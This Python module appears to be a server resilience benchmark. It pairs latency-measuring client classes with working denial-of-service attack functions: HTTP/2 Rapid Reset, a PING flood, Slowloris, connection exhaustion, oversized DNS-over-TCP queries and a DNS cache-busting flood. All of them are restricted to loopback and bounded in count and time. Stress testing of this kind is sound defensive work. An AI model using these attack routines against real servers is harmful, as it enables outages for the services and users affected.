"""The two sides of `bench/abuse.py`: the well-behaved clients that measure (`Victim` and its
HTTP/1.1, HTTP/2 and DNS kinds) and the hostile ones (`attack_*`, each run in its own process
until a deadline, reporting what it sent and how often the server ended its connections).

Attackers connect from `ATTACKER` (127.0.0.2) and victims from `VICTIM` (127.0.0.1), so per-client
limits can tell them apart. Loopback only; every loop is bounded in count and time.
"""

from __future__ import annotations

import contextlib
import multiprocessing as mp
import os
import random
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass

ATTACKER = "127.0.0.2"
VICTIM = "127.0.0.1"
TIMEOUT = 2.0

@dataclass
class Target:
    """What a scenario runs against: the server's PID and the ports and names to use."""

    pid: int
    http_port: int = 0
    https_port: int = 0
    dns_port: int = 0
    web_host: str = ""
    g_host: str = ""
    ca: str = ""



# --------------------------------------------------------------------------- the well-behaved clients

class Victim:
    """Sends one request every 1/rate seconds for `duration` seconds; records latency or error."""

    def __init__(self, target: Target, rate: float) -> None:
        self.target = target
        self.rate = rate
        self.latencies: list[float] = []
        self.errors: list[str] = []

    def request(self) -> None:  # one request; raises on failure
        raise NotImplementedError

    def close(self) -> None:
        pass

    def run(self, duration: float) -> None:
        period = 1.0 / self.rate
        start = time.monotonic()
        n = int(duration * self.rate)
        for i in range(n):
            due = start + i * period
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            t0 = time.monotonic()
            try:
                self.request()
                dt = time.monotonic() - t0
                if dt > TIMEOUT:
                    self.errors.append(f"slow {dt:.2f}s")
                self.latencies.append(dt)
            except Exception as exc:  # noqa: BLE001 - every failure is a victim error, named
                self.errors.append(f"{type(exc).__name__}: {exc}"[:120])
                self.close()
        self.close()


class Http1Victim(Victim):
    """Keep-alive HTTP/1.1 GETs on the plain port; a new connection after an error."""

    sock: socket.socket | None = None

    def request(self) -> None:
        if self.sock is None:
            self.sock = socket.create_connection(("127.0.0.1", self.target.http_port), timeout=TIMEOUT,
                                                 source_address=(VICTIM, 0))
        self.sock.sendall(f"GET / HTTP/1.1\r\nHost: {self.target.web_host}\r\n\r\n".encode())
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed before the response head")
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        if not head.startswith(b"HTTP/1.1 200"):
            raise RuntimeError(head.split(b"\r\n", 1)[0].decode(errors="replace"))
        length = next(int(line.split(b":", 1)[1]) for line in head.split(b"\r\n")
                      if line.lower().startswith(b"content-length:"))
        while len(body) < length:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed inside the body")
            body += chunk

    def close(self) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None


class H2Victim(Victim):
    """A new TLS connection with ALPN h2 and one GET per request (handshake included, as a new user)."""

    def request(self) -> None:
        import h2.config
        import h2.connection
        import h2.events

        ctx = ssl.create_default_context(cafile=self.target.ca)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", self.target.https_port), timeout=TIMEOUT,
                                       source_address=(VICTIM, 0))
        with ctx.wrap_socket(raw, server_hostname=self.target.g_host) as s:
            c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            c.initiate_connection()
            c.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":path", "/"),
                               (":authority", self.target.g_host)], end_stream=True)
            s.sendall(c.data_to_send())
            status, done = "", False
            while not done:
                data = s.recv(65536)
                if not data:
                    raise ConnectionError("closed before the response")
                for ev in c.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived):
                        status = dict(ev.headers).get(b":status", b"").decode()
                    elif isinstance(ev, h2.events.StreamEnded | h2.events.StreamReset):
                        done = True
                s.sendall(c.data_to_send())
            if status != "200":
                raise RuntimeError(f"status {status or 'none'}")


class DnsVictim(Victim):
    """UDP A queries for the app name in 0x20 mixed case with random IDs; NOERROR with an answer."""

    def __init__(self, target: Target, rate: float) -> None:
        super().__init__(target, rate)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((VICTIM, 0))
        self.sock.settimeout(TIMEOUT)

    def request(self) -> None:
        qid = random.getrandbits(16)
        name = "".join(c.upper() if random.random() < 0.5 else c for c in "shop.geo.test")
        wire = struct.pack("!HHHHHH", qid, 0x0000, 1, 0, 0, 0)
        wire += b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
        wire += struct.pack("!HH", 1, 1)
        self.sock.sendto(wire, ("127.0.0.1", self.target.dns_port))
        while True:
            data = self.sock.recv(4096)
            if len(data) >= 12 and struct.unpack("!H", data[:2])[0] == qid:
                break
        flags, _, ancount = struct.unpack("!HHH", data[2:8])
        if flags & 0xF or ancount == 0:
            raise RuntimeError(f"rcode {flags & 0xF}, {ancount} answers")

    def close(self) -> None:
        pass


# --------------------------------------------------------------------------- the attackers
# Each runs in its own process until `stop_at` (monotonic) and reports counts through `out`.

def _tls_h2(target: Target, rcvbuf: int | None = None) -> ssl.SSLSocket:
    ctx = ssl.create_default_context(cafile=target.ca)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.socket()
    if rcvbuf is not None:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.bind((ATTACKER, 0))
    raw.settimeout(TIMEOUT)
    raw.connect(("127.0.0.1", target.https_port))
    return ctx.wrap_socket(raw, server_hostname=target.g_host)


def _server_closed(s: socket.socket) -> bool:
    """True when the server has sent EOF/RST (or GOAWAY bytes we do not parse; EOF follows)."""
    try:
        r, _, _ = select.select([s], [], [], 0)
        if r:
            return s.recv(65536) == b""
    except (OSError, ssl.SSLError):
        return True
    return False


def attack_rapid_reset(target: Target, stop_at: float, out: dict) -> None:
    import h2.config
    import h2.connection

    sent = closed = 0
    while time.monotonic() < stop_at and sent < 2_000_000:
        try:
            s = _tls_h2(target)
        except OSError:
            time.sleep(0.05)
            continue
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_inbound_headers=False))
        c.initiate_connection()
        sid = 1
        try:
            while time.monotonic() < stop_at and sid < 2**31 - 400:
                for _ in range(100):
                    c.send_headers(sid, [(":method", "GET"), (":scheme", "https"), (":path", "/"),
                                         (":authority", target.g_host)])
                    c.reset_stream(sid, 8)
                    sid += 2
                    sent += 1
                s.sendall(c.data_to_send())
                if _server_closed(s):
                    closed += 1
                    break
        except (OSError, ssl.SSLError, Exception):  # noqa: BLE001 - the server ended it: reconnect
            closed += 1
        with contextlib.suppress(OSError):
            s.close()
    out.update(sent=sent, unit="HEADERS+RST pairs", server_closed=closed)


def attack_ping_flood(target: Target, stop_at: float, out: dict) -> None:
    from hyperframe.frame import PingFrame

    blob = PingFrame(0, b"12345678").serialize() * 2000
    sent = closed = 0
    while time.monotonic() < stop_at and sent < 50_000_000:
        try:
            s = _tls_h2(target, rcvbuf=4096)
        except OSError:
            time.sleep(0.05)
            continue
        try:
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0")
            while time.monotonic() < stop_at:
                s.sendall(blob)  # never reads: blocks (up to TIMEOUT) once the server stops reading
                sent += 2000
        except (OSError, ssl.SSLError):
            closed += 1
        with contextlib.suppress(OSError):
            s.close()
    out.update(sent=sent, unit="PING frames", server_closed=closed)


def attack_slowloris(target: Target, stop_at: float, out: dict) -> None:
    head = f"GET / HTTP/1.1\r\nHost: {target.web_host}\r\nX-Pad: {'a' * 200}\r\n\r\n".encode()
    conns: list[list] = []  # [socket, bytes sent]
    opened = closed = 0
    while time.monotonic() < stop_at:
        while len(conns) < 300 and opened < 5000:
            try:
                s = socket.create_connection(("127.0.0.1", target.http_port), timeout=TIMEOUT,
                                             source_address=(ATTACKER, 0))
            except OSError:
                break
            opened += 1
            conns.append([s, 0])
        for pair in list(conns):
            s, n = pair
            try:
                s.sendall(head[n:n + 1])
                pair[1] = (n + 1) % len(head)
                if _server_closed(s):
                    raise ConnectionError
            except OSError:
                closed += 1
                s.close()
                conns.remove(pair)
        time.sleep(1.0)
    for s, _ in conns:
        s.close()
    out.update(sent=opened, unit="connections opened", server_closed=closed)


def attack_fd_exhaustion(target: Target, stop_at: float, out: dict) -> None:
    conns: list[socket.socket] = []
    opened = closed = 0
    while time.monotonic() < stop_at:
        while len(conns) < 600 and opened < 20_000 and time.monotonic() < stop_at:
            try:
                s = socket.socket()
                s.bind((ATTACKER, 0))
                s.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    s.connect(("127.0.0.1", target.https_port))
                conns.append(s)
                opened += 1
            except OSError:
                break
        time.sleep(0.2)
        for s in list(conns):
            if _server_closed(s):
                closed += 1
                s.close()
                conns.remove(s)
    for s in conns:
        s.close()
    out.update(sent=opened, unit="idle connections opened", server_closed=closed)


def attack_dns_tcp(target: Target, stop_at: float, out: dict) -> None:
    hdr = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 5458, 0, 0)
    qn = b"\x04shop\x03geo\x04test\0" + struct.pack("!HH", 1, 1)
    msg = hdr + qn + (b"\0" + struct.pack("!HHIH", 16, 1, 0, 1) + b"\0") * 5458
    batch = (struct.pack("!H", len(msg)) + msg) * 8
    sent = closed = 0
    while time.monotonic() < stop_at and sent < 100_000:
        try:
            s = socket.create_connection(("127.0.0.1", target.dns_port), timeout=TIMEOUT,
                                         source_address=(ATTACKER, 0))
            s.setblocking(False)
        except OSError:
            time.sleep(0.05)
            continue
        try:
            while time.monotonic() < stop_at:
                _, w, _ = select.select([], [s], [], 0.2)
                if w:
                    s.sendall(batch)
                    sent += 8
                with contextlib.suppress(BlockingIOError):
                    if s.recv(1 << 20) == b"":
                        raise ConnectionError
        except (OSError, ConnectionError):
            closed += 1
        s.close()
    out.update(sent=sent, unit="64 KB TCP queries", server_closed=closed)


def attack_dns_cache(target: Target, stop_at: float, out: dict) -> None:
    hdr = struct.pack("!HHHHHH", 0x4242, 0x0000, 1, 0, 0, 1)
    qn = b"\x03geo\x04test\0" + struct.pack("!HH", 6, 1)
    option = struct.pack("!HH", 65001, 4000) + b"\0" * 3992
    opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option) + 8)
    base = bytearray(hdr + qn + opt + option + b"\0" * 8)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ATTACKER, 0))
    s.setblocking(False)
    sent = 0
    start, rate = time.monotonic(), out.get("rate", 10_000)
    while time.monotonic() < stop_at and sent < 2_000_000:
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
        for _ in range(100):
            base[-8:] = struct.pack("!Q", sent)
            with contextlib.suppress(BlockingIOError):
                s.sendto(base, ("127.0.0.1", target.dns_port))
                sent += 1
            with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
                while s.recv(65536):
                    pass
    out.update(sent=sent, unit="unique 4 KB queries", server_closed=0)


def _attacker_main(fn: Callable, target: Target, stop_at: float, q: mp.Queue, cpu: int | None,
                   rate: float) -> None:
    if cpu is not None:
        os.sched_setaffinity(0, {cpu})
    out: dict = {"rate": rate}
    try:
        fn(target, stop_at, out)
    except Exception as exc:  # noqa: BLE001 - reported in the table
        out["error"] = f"{type(exc).__name__}: {exc}"
    q.put(out)
